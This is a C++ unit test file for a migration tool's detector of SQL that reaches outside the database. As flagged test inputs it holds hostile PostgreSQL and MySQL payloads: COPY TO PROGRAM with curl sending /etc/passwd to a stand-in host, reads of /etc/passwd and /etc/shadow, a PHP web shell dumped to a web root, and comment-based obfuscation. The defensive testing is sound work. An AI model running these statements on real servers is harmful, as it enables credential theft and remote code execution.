// engines/server_reach: the statements a scratch replay on a server refuses, and the ordinary
// migrations it lets through.
#include "migrate/engines/server_reach.h"

#include <gtest/gtest.h>

#include "migrate/engines/mysql/mysql_engine.h"
#include "migrate/engines/postgres/postgres_engine.h"

namespace strata::migrate {
namespace {

std::string pg(std::string_view sql) {
  const auto r = find_server_reach(sql, postgres_reach_rules());
  return r ? r->what : std::string{};
}

std::string my(std::string_view sql) {
  const auto r = find_server_reach(sql, mysql_reach_rules());
  return r ? r->what : std::string{};
}

TEST(ServerReach, PostgresFilesProgramsAndOtherServers) {
  EXPECT_EQ(pg("COPY (SELECT 1) TO PROGRAM 'touch /tmp/x'"), "to program");
  EXPECT_EQ(pg("copy t from\n  program 'curl -d @/etc/passwd evil'"), "from program");
  EXPECT_EQ(pg("COPY t TO '/var/lib/postgresql/.bashrc'"), "to");
  EXPECT_EQ(pg("COPY t FROM E'/etc/passwd'"), "from");
  EXPECT_EQ(pg("SELECT pg_read_file('/etc/passwd')"), "pg_read_file");
  EXPECT_EQ(pg("SELECT lo_export(1, '/tmp/x')"), "lo_export");
  EXPECT_EQ(pg("ALTER SYSTEM SET shared_preload_libraries = 'x'"), "alter system");
  EXPECT_EQ(pg("LOAD '/tmp/evil.so'"), "load");
  EXPECT_EQ(pg("CREATE EXTENSION IF NOT EXISTS dblink"), "dblink");
  EXPECT_EQ(pg("CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw"), "create server");
  EXPECT_EQ(pg("CREATE EXTENSION postgres_fdw"), "postgres_fdw");
  EXPECT_EQ(pg("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$"), "plpython3u");
  EXPECT_EQ(pg("CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE 'c'"), "language c");
  EXPECT_EQ(pg("SELECT pg_terminate_backend(pid) FROM pg_stat_activity"), "pg_terminate_backend");
  // Membership in the roles that are these powers.
  EXPECT_EQ(pg("GRANT pg_execute_server_program TO app"), "pg_execute_server_program");
  EXPECT_EQ(pg("GRANT pg_read_server_files, pg_write_server_files TO app"), "pg_read_server_files");
  // Inside a DO block's body and an EXECUTE string, quotes doubled.
  EXPECT_EQ(pg("DO $$ BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''id'''; END $$"), "to program");
  EXPECT_EQ(pg("DO $b$ BEGIN EXECUTE 'COPY t TO ''/tmp/x'''; END $b$"), "to");
  EXPECT_EQ(pg("DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$"), "pg_read_file");
}

TEST(ServerReach, OrdinaryPostgresMigrationsPass) {
  for (const char* sql : {
           "CREATE TABLE programs (id bigserial PRIMARY KEY, name text)",
           "ALTER TABLE t RENAME TO programs",
           "COMMENT ON TABLE t IS 'copy of the list we load daily'",
           "INSERT INTO copy_log (program) VALUES ('to program')",
           "CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$",
           "CREATE FUNCTION g(int) RETURNS int LANGUAGE sql AS 'SELECT $1'",
           "CREATE EXTENSION IF NOT EXISTS pgcrypto",
           "SELECT set_config('search_path', 'app', false)",
           "CREATE INDEX t_loaded ON t (loaded_at)",
           "UPDATE t SET status = 'to do'",
       }) {
    EXPECT_EQ(pg(sql), "") << sql;
  }
}

TEST(ServerReach, MysqlFilesPluginsAndSettings) {
  EXPECT_EQ(my("SELECT * FROM users INTO OUTFILE '/var/lib/mysql-files/u.csv'"), "into outfile");
  EXPECT_EQ(my("SELECT '<?php system($_GET[1]); ?>' INTO DUMPFILE '/var/www/x.php'"), "into dumpfile");
  EXPECT_EQ(my("LOAD DATA INFILE '/etc/passwd' INTO TABLE t"), "load data");
  EXPECT_EQ(my("INSERT INTO t SELECT LOAD_FILE('/etc/shadow')"), "load_file");
  EXPECT_EQ(my("INSTALL PLUGIN evil SONAME 'evil.so'"), "install plugin");
  EXPECT_EQ(my("CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'"), "soname");
  EXPECT_EQ(my("SET GLOBAL general_log_file = '/var/www/x.php'"), "set global");
  EXPECT_EQ(my("SET @@global.general_log = 1"), "@@global");
  EXPECT_EQ(my("CREATE PROCEDURE p() BEGIN SELECT 1 INTO OUTFILE '/tmp/x'; END"), "into outfile");
}

TEST(ServerReach, OrdinaryMysqlMigrationsPass) {
  for (const char* sql : {
           "CREATE TABLE loads (id INT PRIMARY KEY, data TEXT)",
           "INSERT INTO t (a) SELECT b FROM u",
           "SET @x = 1",
           "SET NAMES utf8mb4",
           "SET SESSION sql_mode = 'STRICT_ALL_TABLES'",
           "ALTER TABLE t ADD COLUMN load_data TEXT",
       }) {
    EXPECT_EQ(my(sql), "") << sql;
  }
}

std::string pg_replay(std::string_view sql) {
  for (const auto rules : {postgres_reach_rules(), postgres_replay_reach_rules()}) {
    if (const auto r = find_server_reach(sql, rules)) return r->what;
  }
  return {};
}

std::string my_replay(std::string_view sql) {
  for (const auto rules : {mysql_reach_rules(), mysql_replay_reach_rules()}) {
    if (const auto r = find_server_reach(sql, rules)) return r->what;
  }
  return {};
}

TEST(ServerReach, CommentsQuotesAndOtherStringsHideNothing) {
  EXPECT_EQ(pg("COPY (SELECT 'pwn') TO/**/PROGRAM 'id > /tmp/x'"), "to program");
  EXPECT_EQ(pg("COPY (SELECT 1) TO -- a comment\n PROGRAM 'id'"), "to program");
  EXPECT_EQ(pg("COPY (SELECT 'pwn') TO $$/tmp/x$$"), "to");
  EXPECT_EQ(pg("COPY (SELECT 'pwn') TO $f$/tmp/x$f$"), "to");
  EXPECT_EQ(pg("COPY (SELECT 'pwn') TO U&'/tmp/x'"), "to");
  EXPECT_EQ(pg("DO $$ BEGIN RAISE EXCEPTION 'LEAK:%', \"pg_read_file\"('/etc/passwd', 0, 60); END $$"), "pg_read_file");
  EXPECT_EQ(pg("SELECT pg_read_file/**/('/etc/passwd')"), "pg_read_file");
  EXPECT_EQ(pg("CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE/**/internal"), "language internal");
  EXPECT_EQ(my("SELECT 'pwn' INTO/**/OUTFILE '/tmp/x'"), "into outfile");
  EXPECT_EQ(my("SET/**/GLOBAL max_connections = 77"), "set global");
  EXPECT_EQ(my("SELECT LOAD_FILE/**/('/etc/passwd')"), "load_file");
  EXPECT_EQ(my("SELECT `load_file`('/etc/passwd')"), "load_file");
}

TEST(ServerReach, AReplayRefusesRolesAndDatabasesWhereverTheyAreNamed) {
  EXPECT_EQ(pg_replay("DO $$ BEGIN CREATE ROLE rt_evil SUPERUSER LOGIN PASSWORD 'x'; END $$"), "create role");
  EXPECT_EQ(pg_replay("DO $$ BEGIN EXECUTE 'ALTER ROLE postgres SET work_mem = ''77kB'''; END $$"), "alter role");
  EXPECT_EQ(pg_replay("DO $$ BEGIN ALTER DATABASE postgres SET statement_timeout = '1ms'; END $$"), "alter database");
  EXPECT_EQ(pg_replay("COMMENT ON DATABASE postgres IS 'pwned'"), "comment on database");
  EXPECT_EQ(pg_replay("GRANT ALL ON DATABASE postgres TO PUBLIC"), "on database");
  EXPECT_EQ(pg_replay("SELECT pg_create_physical_replication_slot('s', true)"), "pg_create_physical_replication_slot");
  EXPECT_EQ(my_replay("CREATE PROCEDURE p() DROP DATABASE strata"), "drop database");
  EXPECT_EQ(my_replay("CREATE PROCEDURE p() BEGIN CREATE USER 'rt'@'%' IDENTIFIED BY 'x'; END"), "create user");
  EXPECT_EQ(my_replay("FLUSH TABLES WITH READ LOCK"), "flush tables");
  // Lint's own rules stay as they were: a top-level CREATE ROLE is the user's to run with `up`.
  EXPECT_EQ(pg("CREATE ROLE app"), "");
  // Ordinary migrations still replay.
  for (const char* sql : {"CREATE TABLE roles (id int, database text)", "GRANT SELECT ON t TO app",
                          "ALTER TABLE users ADD COLUMN role text", "UPDATE accounts SET password = 'x'"}) {
    EXPECT_EQ(pg_replay(sql), "") << sql;
    EXPECT_EQ(my_replay(sql), "") << sql;
  }
}

}  // namespace
}  // namespace strata::migrate
